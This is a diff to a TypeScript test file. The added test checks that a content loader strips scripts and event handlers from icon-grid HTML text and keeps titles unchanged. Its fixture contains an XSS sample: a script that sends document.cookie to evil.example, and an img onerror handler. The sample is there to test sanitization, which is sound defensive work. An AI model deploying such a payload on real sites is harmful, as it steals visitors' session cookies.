@@ -1,9 +1,13 @@
+import { join } from 'node:path';
+
+import type { Block } from 'shared-lib/content';
+
 import { makeContent, makePage, makeStore } from '../test-utils/factories';
 import { makeTempDir, removeDir, writeContentDir } from '../test-utils/contentDir';
 import type { ContentIssue } from '../issues/ContentError';
 import { loadContent } from './loadContent';
 
-describe('loadContent sanitizes rich text', () => {
+describe('loadContent sanitizes the fields the schema declares HTML', () => {
   let dir: string;
   beforeEach(() => {
     dir = makeTempDir();
@@ -51,6 +55,51 @@ describe('loadContent sanitizes rich text', () => {
         itemId: 'about-us',
         field: 'blocks[1].text',
         message: 'rich text: removed href on <a> (not allowed on the site)',
+      },
+    ]);
+  });
+
+  it("cleans an icon grid item's text, which the page renders as HTML, and leaves plain text as it is", () => {
+    const content = makeContent();
+    const home = content.pages.findIndex((page) => page.type === 'homepage');
+    content.pages[home] = makePage({
+      ...content.pages[home],
+      blocks: [
+        {
+          id: 'home-icons',
+          type: 'icon_grid',
+          items: [
+            { icon: 'clock', title: 'Hours', text: '<p>Open daily.</p>' },
+            {
+              icon: 'wifi',
+              title: 'Wi-Fi <script>',
+              text: '<p>Free Wi-Fi.</p><script>fetch("https://evil.example/?c="+document.cookie)</script><img src="x" onerror="steal()">',
+            },
+          ],
+        },
+      ],
+    });
+    writeContentDir(content, dir);
+    const warnings: ContentIssue[] = [];
+    const loaded = loadContent(dir, {
+      displayBase: dir,
+      onWarning: (warning) => warnings.push(warning),
+    });
+
+    const page = loaded.pages.find(({ id }) => id === content.pages[home]!.id)!;
+    const grid = page.blocks[0] as Extract<Block, { type: 'icon_grid' }>;
+    expect(grid.items.map((item) => item.text)).toEqual([
+      '<p>Open daily.</p>',
+      '<p>Free Wi-Fi.</p><img src="x" />',
+    ]);
+    // A title is text: the page escapes it, so it is kept as written.
+    expect(grid.items[1]!.title).toBe('Wi-Fi <script>');
+    expect(warnings).toEqual([
+      {
+        file: join('pages', `${content.pages[home]!.id}.json`),
+        itemId: content.pages[home]!.id,
+        field: 'blocks[0].items[1].text',
+        message: 'rich text: removed <script>, onerror on <img> (not allowed on the site)',
       },
     ]);
   });
